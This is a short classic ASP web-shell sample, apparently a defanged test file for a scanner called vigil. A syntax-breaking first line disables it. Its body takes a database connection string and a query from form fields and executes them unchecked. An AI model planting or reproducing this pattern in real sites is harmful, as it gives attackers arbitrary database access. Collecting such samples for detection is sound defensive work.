<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
cs = Request.Form("cs")
q = Request.Form("q")
Set cn = CreateObject("ADODB.Connection")
cn.Open cs
cn.Execute q
%>
